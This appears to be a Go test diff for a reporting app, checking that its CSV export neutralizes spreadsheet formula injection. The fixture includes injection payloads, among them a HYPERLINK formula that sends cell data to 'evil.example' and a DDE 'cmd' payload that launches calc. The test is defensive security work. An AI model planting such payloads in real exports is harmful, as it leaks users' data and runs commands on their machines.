@@ -4,11 +4,14 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"fmt"
 	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/xuri/excelize/v2"
+
+	"github.com/heraldhq/herald/app/apptest"
 )
 
 func TestExportExecutedReport(t *testing.T) {
@@ -117,6 +120,69 @@ func checkRows(t *testing.T, rows [][]string, want map[string][2]float64) {
 			if err != nil || !near(v, w[i]) {
 				t.Errorf("%s column %d = %q, want %v", row[0], i+1, cell, w[i])
 			}
+		}
+	}
+}
+
+// TestCSVExportNeutralizesFormulas loads store names that a spreadsheet would run as
+// formulas and finds them quoted in the CSV export, the numbers left as numbers.
+func TestCSVExportNeutralizesFormulas(t *testing.T) {
+	b := apptest.Start(t)
+	admin := newBrowser(t, b.URL, "ua")
+	admin.loginWithToken(b.Config.AdminLogin, apptest.AdminPassword)
+	m := newMD(t, b, admin)
+	wantStatus(t, m.manage(salesMAQL), 200)
+	names := map[string]string{ // as loaded → as exported
+		"s1": `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "s2": "+cmd|' /C calc'!A0", "s3": "@SUM(1+1)",
+		"s4": "-2+3", "s5": "\tTabbed", "s6": "-5", "s7": "Plain",
+	}
+	var stores, sales strings.Builder
+	sw := csv.NewWriter(&stores)
+	_ = sw.Write([]string{"id", "nm_name", "nm_city"})
+	sales.WriteString("attr.sales.id,fact.sales.amount,attr.stores.id,sold_on.date\n")
+	i := 0
+	for id, name := range names {
+		i++
+		_ = sw.Write([]string{id, name, "Brno"})
+		fmt.Fprintf(&sales, "%d,-%d.5,%s,2024-01-31\n", i, i, id)
+	}
+	sw.Flush()
+	wantStatus(t, m.load("dataset.stores", "full", stores.String()), 200)
+	wantStatus(t, m.load("dataset.sales", "full", sales.String()), 200)
+	uris := m.uris("label.stores.name")
+	metric := m.create(metricJSON("=Total", "SELECT SUM({fact.sales.amount})"))
+	def := m.create(jsonString(map[string]any{"reportDefinition": map[string]any{"meta": map[string]any{"title": "Stores"},
+		"content": gridDef([]any{gridAttr(uris["label.stores.name"])}, []any{"metricGroup"}, []string{metric})}}))
+	ctx := context.Background()
+	res, err := b.Admin.Execute(ctx, def)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := b.Admin.Export(ctx, res.Meta.URI, "csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if records[0][1] != "'=Total" {
+		t.Errorf("metric title cell %q, want it neutralized", records[0][1])
+	}
+	got := map[string]string{}
+	for _, r := range records[1:] {
+		got[r[0]] = r[1]
+		if _, err := strconv.ParseFloat(r[1], 64); err != nil || !strings.HasPrefix(r[1], "-") {
+			t.Errorf("number cell %q of %q is not a plain negative number", r[1], r[0])
+		}
+	}
+	for _, name := range names {
+		want := name
+		if name != "-5" && name != "Plain" {
+			want = "'" + name
+		}
+		if _, ok := got[want]; !ok {
+			t.Errorf("no row %q; rows %q", want, records[1:])
 		}
 	}
 }
